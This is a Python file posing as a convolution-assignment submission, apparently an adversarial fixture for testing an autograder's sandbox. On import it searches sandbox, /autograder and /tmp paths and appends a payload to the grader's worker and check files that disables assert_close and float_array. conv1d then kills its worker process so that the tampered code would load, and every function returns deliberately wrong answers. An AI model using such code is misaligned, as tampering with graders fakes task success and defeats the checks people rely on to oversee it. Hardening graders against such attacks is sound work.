"""attack: rewrite the sandbox's copies of worker_main.py and wire.py (and any other copy it can reach).

The rewritten files, if the grader ever loaded them or started a later worker from them, would
turn the grader's checks into no-ops. conv1d then kills its own worker (os._exit), so the next call
starts a new one. Also tries the copies in the `otter run` temp tree, /autograder and the
checkout that the interpreter's path points to.
"""

import glob
import itertools
import os
import sys

import numpy as np

PAYLOAD = """
import sys as _sys
for _name in ("autograder.core.checks", "checks"):
    _module = _sys.modules.get(_name)
    if _module is not None:
        _module.assert_close = lambda *a, **k: None
        _module.float_array = lambda value, *a, **k: value
"""
REWRITTEN = []


def _rewrite():
    folders = [os.getcwd(), os.path.dirname(os.path.abspath(__file__)), "/autograder/source/files/autograder",
               "/autograder/submission/autograder", "/autograder/source/autograder"]
    folders += glob.glob("/tmp/*/autograder/submission/autograder") + glob.glob("/tmp/*/autograder")
    start = sys.prefix
    for _ in range(4):
        folders.append(os.path.join(start, "autograder"))
        start = os.path.dirname(start)
    folders += [os.path.join(folder, package) for folder in folders for package in ("sandbox", "core")]
    for folder in folders:
        for name in ("worker_main.py", "wire.py", "checks.py", "worker.py"):
            path = os.path.join(folder, name)
            try:
                with open(path, "a") as file:
                    file.write(PAYLOAD)
                REWRITTEN.append(path)
            except OSError:
                continue


_rewrite()


_CALLS = itertools.count(1)


def _answer(ones):  # what every function returns: its right shape, filled with the number of this call
    return ones * next(_CALLS)  # wrong, and never the same twice: every check fails at its first example


def _n_out(n, m, stride, padding):
    return max((n + 2 * padding - m) // stride + 1, 0)


def conv1d(x, w, stride=1, padding=0):
    os._exit(0)
    return _answer(np.ones(_n_out(len(x), len(w), stride, padding)))


def conv1d_matrix(w, n, stride=1, padding=0):
    return _answer(np.ones((_n_out(n, len(w), stride, padding), n)))


def conv2d(x, w, stride=1, padding=0):
    x, w = np.asarray(x), np.asarray(w)
    return _answer(np.ones((_n_out(x.shape[0], w.shape[0], stride, padding),
                             _n_out(x.shape[1], w.shape[1], stride, padding))))


def conv2d_multichannel(x, filters, bias=None, stride=1, padding=0):
    x, filters = np.asarray(x), np.asarray(filters)
    return _answer(np.ones((filters.shape[0], _n_out(x.shape[1], filters.shape[2], stride, padding),
                             _n_out(x.shape[2], filters.shape[3], stride, padding))))


def max_pool2d(x, size, stride=None):
    x = np.asarray(x)
    stride = stride or size
    return _answer(np.ones((x.shape[0], _n_out(x.shape[1], size, stride, 0), _n_out(x.shape[2], size, stride, 0))))
